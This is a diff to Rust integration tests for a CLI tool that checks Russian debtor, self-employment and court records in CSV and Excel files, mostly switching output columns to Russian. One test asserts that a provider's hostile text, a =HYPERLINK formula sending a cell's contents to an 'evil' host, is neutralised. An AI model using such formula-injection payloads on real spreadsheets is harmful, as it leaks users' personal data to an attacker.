@@ -12,6 +12,13 @@ mod common;
 
 use common::*;
 
+/// `proverka` as a person runs it: in Russian, the default.
+fn ru(s: &proverka_sandbox::SandboxHandle) -> tokio::process::Command {
+    let mut c = proverka(s);
+    c.env_remove("PROVERKA_LANG");
+    c
+}
+
 /// openpyxl's view of a workbook: per sheet, its name and each cell as `[type, value]`
 /// (`n` number, `s` text, `d` date, `f` formula), row by row.
 fn openpyxl(path: &Path) -> serde_json::Value {
@@ -73,7 +80,7 @@ async fn a_russian_excel_csv_with_one_fio_column_and_hostile_cells() {
     assert!(!unmappable);
     std::fs::write(&input, &bytes).unwrap();
     let out = d.join("result.csv");
-    let mut c = proverka(&s);
+    let mut c = ru(&s);
     batch(&mut c, &input, "fssp-physical", &out);
     let (code, log) = run(c).await;
     assert_eq!(code, 0, "{log}");
@@ -85,18 +92,18 @@ async fn a_russian_excel_csv_with_one_fio_column_and_hostile_cells() {
     let rows = read_csv(&out, b';');
     assert_eq!(rows[0][0].trim_start_matches('\u{feff}'), "ФИО");
     assert_eq!(
-        column(&rows, "status"),
-        ["ok", "ok", "invalid"],
+        column(&rows, "статус"),
+        ["готово", "готово", "неверная строка"],
         "{:?}",
-        column(&rows, "error_message")
+        column(&rows, "ошибка")
     );
     // Split as written: the Turkic patronymic kept whole; one word refused, saying how.
     assert!(
-        column(&rows, "error_message")[2].contains("разнесите по колонкам"),
+        column(&rows, "ошибка")[2].contains("разнесите по колонкам"),
         "{rows:?}"
     );
     assert!(
-        column(&rows, "note")[1].contains("отчество «Али оглы» не отправлено"),
+        column(&rows, "примечание")[1].contains("отчество «Али оглы» не отправлено"),
         "{rows:?}"
     );
     assert_eq!(s.calls(Provider::Fssp), 2);
@@ -138,14 +145,14 @@ async fn a_provider_s_hostile_text_never_becomes_a_formula() {
     .unwrap();
     for name in ["courts.csv", "courts.xlsx"] {
         let out = d.join(name);
-        let mut c = proverka(&s);
+        let mut c = ru(&s);
         batch(&mut c, &input, "court", &out);
         let (code, log) = run(c).await;
         assert_eq!(code, 1, "the row failed: {log}");
         if name.ends_with(".csv") {
             // One column in: the output takes Russian Excel's `;`.
             let rows = read_csv(&out, b';');
-            let code = &column(&rows, "error_code")[0];
+            let code = &column(&rows, "код ошибки")[0];
             assert!(code.starts_with("'=HYPERLINK"), "{code}");
         } else {
             let book = openpyxl(&out);
@@ -158,7 +165,7 @@ async fn a_provider_s_hostile_text_never_becomes_a_formula() {
             }
             let sheet = &book[0];
             assert_eq!(
-                sheet_column(sheet, "error_code")[0],
+                sheet_column(sheet, "код ошибки")[0],
                 serde_json::json!(["s", "=HYPERLINK(\"http://evil/?\"&A2,\"Click\")"])
             );
         }
@@ -206,7 +213,7 @@ async fn an_hr_workbook_keeps_its_sheets_and_types_and_gets_its_inns_back() {
         book.save(&input).unwrap();
     }
     // The input is never the output.
-    let mut same = proverka(&s);
+    let mut same = ru(&s);
     batch(&mut same, &input, "npd", &input);
     let (code, log) = run(same).await;
     assert_eq!(code, 2, "{log}");
@@ -214,7 +221,7 @@ async fn an_hr_workbook_keeps_its_sheets_and_types_and_gets_its_inns_back() {
     assert_eq!(openpyxl(&input).as_array().unwrap().len(), 2, "untouched");
 
     let out = d.join("hr-checked.xlsx");
-    let mut c = proverka(&s);
+    let mut c = ru(&s);
     batch(&mut c, &input, "npd", &out);
     let (code, log) = run(c).await;
     assert_eq!(code, 0, "{log}");
@@ -241,28 +248,28 @@ async fn an_hr_workbook_keeps_its_sheets_and_types_and_gets_its_inns_back() {
         serde_json::json!(["d", "1968-07-05"])
     );
     assert_eq!(
-        sheet_column(staff, "status"),
+        sheet_column(staff, "статус"),
         [
-            serde_json::json!(["s", "ok"]),
-            serde_json::json!(["s", "ok"]),
-            serde_json::json!(["s", "invalid"])
+            serde_json::json!(["s", "готово"]),
+            serde_json::json!(["s", "готово"]),
+            serde_json::json!(["s", "неверная строка"])
         ]
     );
     assert_eq!(
-        sheet_column(staff, "self_employed")[0],
+        sheet_column(staff, "самозанятый")[0],
         serde_json::json!(["s", "да"])
     );
     assert_eq!(
-        sheet_column(staff, "price_rub")[0],
+        sheet_column(staff, "цена, ₽")[0],
         serde_json::json!(["n", 1.5])
     );
     // The duplicate row points at the first and cost nothing.
     assert_eq!(
-        sheet_column(staff, "price_rub")[1],
+        sheet_column(staff, "цена, ₽")[1],
         serde_json::json!(["n", 0])
     );
     assert_eq!(
-        sheet_column(staff, "source")[1],
+        sheet_column(staff, "источник")[1],
         serde_json::json!(["s", "дубль строки 2"])
     );
     assert_eq!(s.calls(Provider::Npd), 1);
@@ -303,14 +310,14 @@ async fn an_inn_that_lost_its_leading_zero_is_restored_and_said() {
     assert!(proverka_core::Inn::parse(org).is_ok());
     std::fs::write(&input, format!("ИНН\n{}\n", &org[1..])).unwrap();
     let out = d.join("out.csv");
-    let mut c = proverka(&s);
+    let mut c = ru(&s);
     batch(&mut c, &input, "fssp-inn", &out);
     let (code, log) = run(c).await;
     assert_eq!(code, 0, "{log}");
     let rows = read_csv(&out, b';');
-    assert_eq!(column(&rows, "status"), ["ok"]);
+    assert_eq!(column(&rows, "статус"), ["готово"]);
     assert!(
-        column(&rows, "note")[0].contains(&format!("восстановлен как {org}")),
+        column(&rows, "примечание")[0].contains(&format!("восстановлен как {org}")),
         "{rows:?}"
     );
 }
@@ -327,7 +334,7 @@ async fn a_dry_run_lists_what_is_wrong_and_fails_when_nothing_can_be_sent() {
     .unwrap();
     let out = d.join("out.csv");
     let report = d.join("invalid.csv");
-    let mut c = proverka(&s);
+    let mut c = ru(&s);
     batch(&mut c, &input, "fssp-physical", &out);
     c.arg("--dry-run").arg("--report").arg(&report);
     let (code, log) = run(c).await;
@@ -373,7 +380,7 @@ async fn malformed_lists_are_refused_with_the_line_and_what_to_do() {
     ] {
         let input = d.join(name);
         std::fs::write(&input, text).unwrap();
-        let mut c = proverka(&s);
+        let mut c = ru(&s);
         batch(&mut c, &input, "npd", &out);
         let (code, log) = run(c).await;
         assert_eq!(code, 2, "{name}: {log}");
@@ -385,7 +392,7 @@ async fn malformed_lists_are_refused_with_the_line_and_what_to_do() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn one_off_checks_take_dates_either_way_as_batches_do() {
     let s = sandbox().await;
-    let mut npd = proverka(&s);
+    let mut npd = ru(&s);
     npd.args([
         "npd",
         "--inn",
@@ -398,7 +405,7 @@ async fn one_off_checks_take_dates_either_way_as_batches_do() {
     let (last, first, born) = proverka_sandbox::FSSP_DEBTOR;
     // 31.03.1980 written the ISO way.
     let iso = format!("{}-{}-{}", &born[6..], &born[3..5], &born[..2]);
-    let mut fssp = proverka(&s);
+    let mut fssp = ru(&s);
     fssp.args([
         "fssp",
         "physical",
@@ -428,7 +435,7 @@ async fn results_carry_proceedings_courts_addresses_and_the_date_checked() {
     )
     .unwrap();
     let xlsx = d.join("debts.xlsx");
-    let mut c = proverka(&s);
+    let mut c = ru(&s);
     batch(&mut c, &people, "fssp-physical", &xlsx);
     let (code, log) = run(c).await;
     assert_eq!(code, 0, "{log}");
@@ -451,7 +458,7 @@ async fn results_carry_proceedings_courts_addresses_and_the_date_checked() {
         .iter()
         .map(|c| c[1].as_f64().unwrap())
         .sum();
-    let debt = sheet_column(&book[0], "debt_rub")[1][1].as_f64().unwrap();
+    let debt = sheet_column(&book[0], "долг, ₽")[1][1].as_f64().unwrap();
     assert!((sums - debt).abs() < 0.005, "{sums} vs {debt}");
     assert_eq!(sheet_column(proceedings, "дата")[0][0], "d");
     assert!(
@@ -462,7 +469,7 @@ async fn results_carry_proceedings_courts_addresses_and_the_date_checked() {
     );
     // The same as CSV: the proceedings in a second file.
     let csv = d.join("debts.csv");
-    let mut c = proverka(&s);
+    let mut c = ru(&s);
     batch(&mut c, &people, "fssp-physical", &csv);
     let (code, log) = run(c).await;
     assert_eq!(code, 0, "{log}");
@@ -478,16 +485,16 @@ async fn results_carry_proceedings_courts_addresses_and_the_date_checked() {
     )
     .unwrap();
     let courts = d.join("courts.csv");
-    let mut c = proverka(&s);
+    let mut c = ru(&s);
     batch(&mut c, &addresses, "court", &courts);
     let (code, log) = run(c).await;
     assert_eq!(code, 0, "{log}");
     let rows = read_csv(&courts, b';');
     for field in [
-        "court_fs_address",
-        "court_fs_phone",
-        "court_ms_address",
-        "court_ms_phone",
+        "адрес районного суда",
+        "телефон районного суда",
+        "адрес мирового участка",
+        "телефон мирового участка",
     ] {
         assert!(!column(&rows, field)[0].is_empty(), "{field}: {rows:?}");
     }
@@ -504,13 +511,57 @@ async fn results_carry_proceedings_courts_addresses_and_the_date_checked() {
     )
     .unwrap();
     let npd = d.join("npd.csv");
-    let mut c = proverka(&s);
+    let mut c = ru(&s);
     batch(&mut c, &inns, "npd", &npd);
     let (code, log) = run(c).await;
     assert_eq!(code, 0, "{log}");
     let rows = read_csv(&npd, b';');
-    let checked = column(&rows, "checked_on");
+    let checked = column(&rows, "дата проверки НПД");
     assert_eq!(checked[0], "2024-03-01");
     assert_eq!(checked[1].len(), 10, "today in Moscow: {checked:?}");
-    assert_eq!(column(&rows, "source"), ["provider", "provider"]);
+    assert_eq!(column(&rows, "источник"), ["провайдер", "провайдер"]);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn rows_are_explained_in_russian_by_default_and_in_english_on_request() {
+    let s = sandbox().await;
+    let d = dir("lang");
+    let input = d.join("inns.csv");
+    let with_letter_o = proverka_sandbox::NPD_NON_PAYER.replacen('0', "О", 1);
+    std::fs::write(
+        &input,
+        format!(
+            "ИНН\n{}\n{with_letter_o}\n7707083893\n",
+            proverka_sandbox::NPD_PAYER
+        ),
+    )
+    .unwrap();
+    let out = d.join("ru.csv");
+    let mut c = ru(&s);
+    batch(&mut c, &input, "npd", &out);
+    let (code, log) = run(c).await;
+    assert_eq!(code, 0, "{log}");
+    let rows = read_csv(&out, b';');
+    assert_eq!(
+        column(&rows, "статус"),
+        ["готово", "неверная строка", "неверная строка"]
+    );
+    let errors = column(&rows, "ошибка");
+    assert!(errors[1].contains("буква «О» вместо цифры 0"), "{errors:?}");
+    assert!(errors[2].contains("это ИНН организации"), "{errors:?}");
+    assert_eq!(column(&rows, "оплата")[..2], ["оплачено", "бесплатно"]);
+    let out = d.join("en.csv");
+    let mut c = ru(&s);
+    c.args(["--lang", "en"]);
+    batch(&mut c, &input, "npd", &out);
+    let (code, log) = run(c).await;
+    assert_eq!(code, 0, "{log}");
+    let rows = read_csv(&out, b';');
+    assert_eq!(column(&rows, "status"), ["ok", "invalid", "invalid"]);
+    // Another output, another batch and store (direct mode): asked again.
+    assert_eq!(column(&rows, "source")[0], "provider");
+    assert!(
+        column(&rows, "error_message")[1].contains("INN"),
+        "{rows:?}"
+    );
 }
